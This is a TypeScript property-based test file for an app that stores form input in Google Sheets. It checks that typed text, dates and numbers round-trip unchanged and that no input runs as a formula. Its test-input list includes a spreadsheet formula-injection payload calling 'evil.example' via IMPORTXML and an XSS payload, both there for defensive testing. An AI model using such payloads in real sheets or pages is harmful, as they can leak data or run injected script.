// What a person typed is read back exactly as typed: text stays text, days stay days, and nothing ever runs.
import fc from 'fast-check';
import { DEFAULT_LOCALE, setLocale } from '../../src/domain/basics/locale';
import { checkRow, isSameText } from '../../src/domain/changes/check-input';
import { FIELDS, TableName } from '../../src/domain/tables';
import { FieldKind } from '../../src/domain/tables/description';
import { CellValue, cellOf, isEmptyCell, literal, textOf, textReader } from '../../src/sheets/cells/cells';
import { zoneFrom } from '../../src/sheets/cells/zone';
import { recentDay } from '../domain/dates/days';
import { SheetsModel, storedBy } from './sheets-model';
import { ZONES, wallClockOf } from './wall-clocks';

const ZONE = zoneFrom(wallClockOf('America/New_York').format);
const MODELS: SheetsModel[] = [true, false].flatMap((keepsMarks) =>
  [true, false].map((isPlainText) => ({ keepsMarks, isPlainText })),
);
const nameOf = ({ keepsMarks, isPlainText }: SheetsModel) =>
  `${keepsMarks ? 'marks are given back' : 'marks are taken off'}, cells ${isPlainText ? 'formatted as text' : 'of any format'}`;

const TEXT_KINDS: readonly FieldKind[] = ['line', 'text', 'several', 'choice', 'end'];
const NAUGHTY = [
  '=IMPORTXML("http://evil.example","//a")',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  "'=1+1",
  "''",
  "'",
  "'tis the season",
  '+1 555 0100',
  '+cmd',
  '-',
  '-5',
  '- bring the banner',
  '@',
  '@library',
  '007',
  '1/2',
  '1-2',
  '7\n',
  '\n1/2',
  '5 Mar',
  'March 5',
  '2023-02-01',
  '10:51',
  '3e5',
  '12%',
  '$5',
  '1,234.50',
  'TRUE',
  'false',
  ' True ',
  ' leading',
  'trailing ',
  'two\nlines',
  '😀👩‍🏫',
  'مكتبة',
  '‏שלום',
  '<img src=x onerror=alert(1)>',
  'x'.repeat(50000),
];
const signs = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  "'",
  ' ',
  '\n',
  '\t',
  '0',
  '1',
  '/',
  ':',
  '.',
  '%',
  'e',
  'TRUE',
  'a',
);
const anyText = fc.oneof(
  fc.constantFrom(...NAUGHTY),
  fc.string({ unit: signs, maxLength: 8 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
);

/** What is read back after the text was saved in a field of that kind. */
function savedAndRead(text: string, kind: FieldKind, model: SheetsModel, zone = ZONE): string {
  // The probe is the label of the id column, written with a leading mark.
  const probe = storedBy("'Outreach id", model);
  const stored = storedBy(cellOf(text, kind, zone), model);
  if (isFormula(stored) || isFormula(probe)) throw new Error(`“${text}” runs as a formula`);
  return textOf(stored, kind, zone, textReader(probe));
}

function isFormula(value: CellValue | { runs: string }): value is { runs: string } {
  return typeof value === 'object' && 'runs' in value;
}

describe.each(MODELS.map((model) => [nameOf(model), model] as const))('text, when %s', (_, model) => {
  test.each(NAUGHTY.map((text) => [text.length > 60 ? '50,000 characters' : JSON.stringify(text), text]))(
    '%s comes back as typed',
    (_label, text) => {
      for (const kind of TEXT_KINDS) expect(savedAndRead(text, kind, model)).toBe(text);
    },
  );

  test('whatever was typed comes back as typed', () => {
    fc.assert(
      fc.property(anyText, fc.constantFrom(...TEXT_KINDS), (text, kind) => {
        expect(savedAndRead(text, kind, model)).toBe(text);
      }),
    );
  });

  test('nothing that was typed into any field ever runs', () => {
    fc.assert(
      fc.property(
        anyText,
        fc.constantFrom(
          ...new Set(
            Object.values(FIELDS)
              .flat()
              .map(({ kind }) => kind),
          ),
        ),
        (text, kind) => {
          expect(isFormula(storedBy(cellOf(text, kind, ZONE), model))).toBe(false);
        },
      ),
    );
  });

  test('words in a field for a day or a number stay as they are', () => {
    for (const kind of ['day', 'when', 'freeWhen', 'whole', 'days'] as const) {
      for (const text of ['last spring', '=1+1', '2.5', '-1', '2023-02-29', 'TRUE', ' ', 'about 20 ']) {
        expect([kind, savedAndRead(text, kind, model)]).toEqual([kind, text]);
      }
    }
  });

  test('what passed the checks means the same when it is read again', () => {
    const typed = fc.oneof(
      anyText,
      recentDay,
      recentDay.chain((day) => fc.constantFrom(` ${day}`, `${day} 9:05`, `${day} 0:00`, `${day} 23:59 `)),
      fc.constantFrom(
        '0',
        '007',
        ' 25',
        '90',
        '8:45',
        '14:30',
        'second Tuesday of the month',
        'Active',
        'TRUE',
        '',
      ),
    );
    const ofEachKind = new Map<FieldKind, [TableName, string]>();
    for (const table of ['partners', 'events', 'plan'] as const) {
      for (const { key, kind } of FIELDS[table]) ofEachKind.set(kind, [table, key]);
    }
    fc.assert(
      fc.property(fc.constantFrom(...ofEachKind), typed, ([kind, [table, key]], text) => {
        const problems = checkRow(table, { [key]: text }, { today: '2036-01-01' });
        fc.pre(!problems.some((problem) => problem.field === key && problem.level === 'stop'));
        fc.pre(kind !== 'tick' || text === '' || text === 'TRUE');
        expect(isSameText(kind, text, savedAndRead(text, kind, model))).toBe(true);
      }),
      { numRuns: 400 },
    );
  });
});

describe('the mark in front of text', () => {
  test('isn’t added if it isn’t needed', () => {
    for (const text of ['WorkSource', '', 'Ana, Ben', 'x'.repeat(50000), 'True story', 'a=b', 'e-mail']) {
      expect(literal(text)).toBe(text);
    }
  });

  test('is added once, and nothing else is changed', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect([text, `'${text}`]).toContain(literal(text));
      }),
    );
  });

  test('is removed only if the probe shows that Sheets returns it', () => {
    expect(textReader("'Outreach id")("'007")).toBe('007');
    expect(textReader("'Outreach id")('007')).toBe('007');
    expect(textReader("'Outreach id")("''tis")).toBe("'tis");
    for (const probe of ['Outreach id', '', undefined, 7, true])
      expect(textReader(probe)("'007")).toBe("'007");
  });
});

describe('a day', () => {
  test.each(ZONES)('in %s is a date in the cell, and reads back as the same day', (name) => {
    const zone = zoneFrom(wallClockOf(name).format);
    fc.assert(
      fc.property(recentDay, fc.constantFrom('day', 'when', 'freeWhen'), (day, kind) => {
        const cell = cellOf(` ${day} `, kind, zone);
        expect(cell).toBeInstanceOf(Date);
        expect(textOf(cell, kind, zone, (text) => text)).toBe(day);
      }),
      { numRuns: 60 },
    );
  });

  test.each([
    ['America/Sao_Paulo', '2018-11-04'],
    ['Africa/Cairo', '2024-04-26'],
    ['Asia/Beirut', '2024-03-31'],
    ['America/Santiago', '2024-09-08'],
  ])('in %s doesn’t get a time on %s, when the clocks skip midnight', (name, day) => {
    const zone = zoneFrom(wallClockOf(name).format);
    for (const kind of ['day', 'when', 'freeWhen'] as const) {
      expect([kind, textOf(cellOf(day, kind, zone), kind, zone, (text) => text)]).toEqual([kind, day]);
    }
  });

  test('with a time keeps its time', () => {
    const zones = ZONES.map((name) => zoneFrom(wallClockOf(name).format));
    fc.assert(
      fc.property(
        recentDay,
        fc.integer({ min: 5 * 60, max: 22 * 60 }),
        fc.constantFrom(...zones),
        (day, minute, zone) => {
          const time = new Date(minute * 60000).toISOString().slice(11, 16);
          const cell = cellOf(`${day} ${time}`, 'when', zone);
          expect(textOf(cell, 'when', zone, (text) => text)).toBe(`${day} ${time}`);
        },
      ),
    );
  });

  test('typed with a short time is read with a full one', () => {
    expect(savedAndRead('2023-02-01 8:45', 'when', { keepsMarks: false, isPlainText: false })).toBe(
      '2023-02-01 08:45',
    );
  });

  test('with a time, in a day field, is just that day', () => {
    const cell = new Date(ZONE.instantOf('2023-02-01', 23 * 60 + 59));
    expect(textOf(cell, 'day', ZONE, (text) => text)).toBe('2023-02-01');
    // When in the plan can hold a time.
    expect(textOf(cell, 'freeWhen', ZONE, (text) => text)).toBe('2023-02-01, 23:59');
  });

  test('is the day in the spreadsheet’s time zone, not the computer’s', () => {
    const cell = new Date(Date.UTC(2023, 1, 1, 3));
    const read = (name: string) => textOf(cell, 'day', zoneFrom(wallClockOf(name).format), (text) => text);
    expect([read('America/New_York'), read('Asia/Kathmandu')]).toEqual(['2023-01-31', '2023-02-01']);
  });
});

describe('other values in a cell', () => {
  const read = (value: CellValue | undefined, kind: FieldKind) => textOf(value, kind, ZONE, (text) => text);

  test('a blank cell is blank text', () => {
    for (const kind of ['line', 'day', 'whole', 'tick'] as const) {
      expect([read('', kind), read(undefined, kind), cellOf('', kind, ZONE)]).toEqual([
        '',
        '',
        kind === 'tick' ? false : '',
      ]);
    }
  });

  test('“nobody came” is 0 and “not known” is blank: never the same thing', () => {
    expect([cellOf('0', 'whole', ZONE), cellOf('', 'whole', ZONE)]).toEqual([0, '']);
    expect([read(0, 'whole'), read('', 'whole')]).toEqual(['0', '']);
  });

  test('whole numbers are numbers in the cell', () => {
    expect([cellOf('25', 'whole', ZONE), cellOf(' 090 ', 'days', ZONE)]).toEqual([25, 90]);
    expect([read(25, 'whole'), read(2.5, 'whole'), read(-1, 'whole')]).toEqual(['25', '2.5', '-1']);
  });

  test('a checkbox is checked or not', () => {
    expect([cellOf('TRUE', 'tick', ZONE), cellOf('', 'tick', ZONE)]).toEqual([true, false]);
    expect([read(true, 'tick'), read(false, 'tick')]).toEqual(['TRUE', '']);
  });

  test('TRUE or FALSE in any other field is read as displayed', () => {
    expect([read(true, 'line'), read(false, 'line')]).toEqual(['TRUE', 'FALSE']);
  });

  test('a number in a text field is read as displayed', () => {
    expect(read(5550100, 'line')).toBe('5550100');
  });

  test('a bare time, which Sheets stores as a time on December 30, 1899, is a time', () => {
    const cell = new Date(Date.UTC(1899, 11, 30, 15, 51));
    expect([read(cell, 'end'), read(cell, 'line'), read(cell, 'when')]).toEqual(['10:51', '10:51', '10:51']);
  });

  test('an event may end on another day, with or without a time', () => {
    expect(read(new Date(ZONE.instantOf('2023-02-01', 0)), 'end')).toBe('2023-02-01');
    expect(read(new Date(ZONE.instantOf('2023-02-01', 545)), 'end')).toBe('2023-02-01 09:05');
  });

  test('an hour that the clocks skip stays text, so it reads the same next time', () => {
    const cell = cellOf('2025-03-09 02:30', 'when', ZONE);
    expect(cell).toBe("'2025-03-09 02:30");
    expect(read('2025-03-09 02:30', 'when')).toBe('2025-03-09 02:30');
    for (const when of ['2025-03-09 01:59', '2025-03-09 03:00', '2025-11-02 01:30', '2025-03-09'])
      expect([cellOf(when, 'when', ZONE) instanceof Date, read(cellOf(when, 'when', ZONE), 'when')]).toEqual([
        true,
        when,
      ]);
  });

  test('a day stored as text is read the way people write it, and other text stays', () => {
    expect(read('March 14, 2026', 'day')).toBe('2026-03-14');
    expect(read('3/14/2026, 2:45 PM', 'when')).toBe('2026-03-14 14:45');
    expect(read('3/4/2026', 'day')).toBe('2026-03-04');
    setLocale('en_GB');
    expect(read('3/4/2026', 'day')).toBe('2026-04-03');
    setLocale(DEFAULT_LOCALE);
    for (const text of ['last spring', 'March 5', 'March 9-13, 2026'])
      expect([read(text, 'day'), read(text, 'when')]).toEqual([text, text]);
  });

  test('blank cells and unchecked boxes hold nothing that a person would miss', () => {
    expect(['', false, undefined].map(isEmptyCell)).toEqual([true, true, true]);
    expect([0, ' ', 'x', true, new Date(0)].map(isEmptyCell)).toEqual([false, false, false, false, false]);
  });
});

describe('a number in a date cell', () => {
  const read = (value: unknown) => textOf(value as CellValue, 'day', ZONE, (text) => text);
  /** What Google returns for a number in a cell with a date format. */
  const dated = (days: number) => new Date(ZONE.instantOf('2000-01-01', 0) + (days - 36526) * 86400000);

  test('reads as that number when it isn’t a day on this calendar, and never fails', () => {
    expect(read(dated(5551234))).toBe('5551234');
    expect(read(new Date(5551234567 * 86400000))).toBe('Invalid Date');
    expect(read({ toString: () => 'CellImage' })).toBe('(picture)');
    fc.assert(
      fc.property(fc.integer({ min: 401800, max: 90000000 }), (days) => {
        expect(read(dated(days))).toBe(String(days));
      }),
    );
    fc.assert(fc.property(fc.double(), (instant) => typeof read(new Date(instant)) === 'string'));
  });
});

test('lines that end in \\r\\n read as forms send them, so unchanged text isn’t an edit', () => {
  expect(textOf('a\r\nb\rc\nd', 'text', ZONE, (text) => text)).toBe('a\nb\nc\nd');
});

test('long strings of digits stay text, even in a number field and however long they are', () => {
  expect(cellOf('1234567890123456', 'whole', ZONE)).toBe("'1234567890123456");
  expect(cellOf('9007199254740993', 'days', ZONE)).toBe("'9007199254740993");
  expect(cellOf('1234567890123456', 'line', ZONE)).toBe("'1234567890123456");
  const long = '5'.repeat(70);
  expect(cellOf(long, 'text', ZONE)).toBe(`'${long}`);
});
